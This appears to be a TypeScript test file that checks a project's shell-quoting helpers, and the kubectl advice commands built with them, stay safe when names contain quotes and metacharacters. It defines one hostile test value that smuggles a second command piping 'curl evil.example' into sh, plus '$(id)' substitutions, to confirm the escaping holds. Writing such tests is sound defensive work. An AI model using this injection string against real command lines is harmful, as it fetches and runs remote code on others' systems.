import { execFileSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { annotateTemplate } from '../../src/diagnosis/judge/advice.ts';
import { shell, shellWord } from '../../src/shell.ts';

/** What a real shell makes of a command line. */
function wordsOf(line: string): string[] {
  return execFileSync('sh', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' })
    .split('\0')
    .slice(0, -1);
}

const evil = `x'; curl evil.example|sh; '$(id)\`id\`\\"\n#`;

test('a word that needs no quotes has none', () => {
  expect(
    shell`kubectl label namespace ${'shop'} ${'packet-capture/injection'}=enabled ${['--context', 'a@b']} ${[]}`,
  ).toBe('kubectl label namespace shop packet-capture/injection=enabled --context a@b');
  expect(shellWord('')).toBe("''");
});

test('a value is one word, whatever it contains', () => {
  expect(wordsOf(shell`kubectl label ${evil} ${evil}=${evil} ${[evil, 'b']} ${5}`)).toEqual([
    'kubectl',
    'label',
    evil,
    `${evil}=${evil}`,
    evil,
    'b',
    '5',
  ]);
  fc.assert(
    // A shell knows no word with a NUL in it.
    fc.property(
      fc.array(
        fc.string({ unit: 'grapheme' }).filter((text) => !text.includes('\0')),
        { minLength: 1, maxLength: 5 },
      ),
      (words) => {
        expect(wordsOf(words.map(shellWord).join(' '))).toEqual(words);
      },
    ),
    { numRuns: 50 },
  );
});

test('advice about names and keys full of quotes can be pasted', () => {
  const pod = { metadata: { name: evil, namespace: 'shop' } };
  const line = annotateTemplate(
    {
      pod,
      namespace: 'shop',
      namespaceLabels: {},
      owners: [{ apiVersion: 'apps/v1', kind: 'Deployment', name: evil }],
    },
    { [evil]: 'true' },
  );
  const words = wordsOf(line);
  expect(words.slice(0, 8)).toEqual([
    'kubectl',
    'patch',
    `deployment/${evil}`,
    '--namespace',
    'shop',
    '--type',
    'merge',
    '--patch',
  ]);
  expect(JSON.parse(words[8] ?? '')).toEqual({ spec: { template: { metadata: { annotations: { [evil]: 'true' } } } } });
  expect(words).toHaveLength(9);
});

test('every command line with a value in it is made by shell', () => {
  const root = join(import.meta.dirname, '../../src');
  const files = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.ts'));
  const bare = files.flatMap((file) => {
    const code = readFileSync(join(root, file), 'utf8');
    return [
      ...code.matchAll(
        /(?<!shell)`[^`]*\b(?:kubectl|helm|packet-capture) [a-z][^`]*\$\{(?!settingAnnotation\(name\)|version\})[^`]*`/g,
      ),
    ].map(([line]) => `${file}: ${line}`);
  });
  expect(bare).toEqual([]);
});
